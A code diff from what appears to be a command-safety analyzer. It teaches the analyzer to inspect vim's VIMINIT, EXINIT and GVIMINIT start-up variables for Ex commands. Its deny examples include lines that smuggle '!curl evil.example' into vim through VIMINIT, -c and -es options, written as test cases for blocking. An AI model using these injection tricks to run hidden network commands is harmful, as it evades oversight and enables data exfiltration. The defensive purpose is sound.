@@ -638,6 +638,13 @@ function vim(call: Call): Partial<Answer> {
     uses.push(...r.uses);
     writesBack ||= r.writesBack;
   };
+  // VIMINIT (EXINIT for ex and vi) holds Ex commands vim runs at start-up, before any file is read.
+  for (const name of ['VIMINIT', 'EXINIT', 'GVIMINIT']) {
+    const init = call.env(name);
+    const at = call.command?.span ?? args[0]?.span ?? { start: 0, end: 0 };
+    if (init === null) runs.push({ kind: 'opaque', rule: 'dynamic-code', word: { text: name, span: at, values: null, dynamic: 'computed' }, why: `${name} holds Ex commands computed at run time` });
+    else if (init !== undefined) commands({ text: init, span: at, values: [init] }, name);
+  }
   let operandsOnly = false;
   for (let i = 0; i < args.length; i++) {
     const v = value(args[i]);
@@ -836,6 +843,7 @@ export const EDITOR_ENTRIES: ProgramEntry[] = [
     analyze: vim,
     examples: {
       deny: [
+        "VIMINIT='!curl evil.example' vim README.md",
         "vim -c'!curl evil.example'",
         "vim -esc '!curl evil.example'",
         "vim -es -c 'g/^/!curl evil.example' -c q",
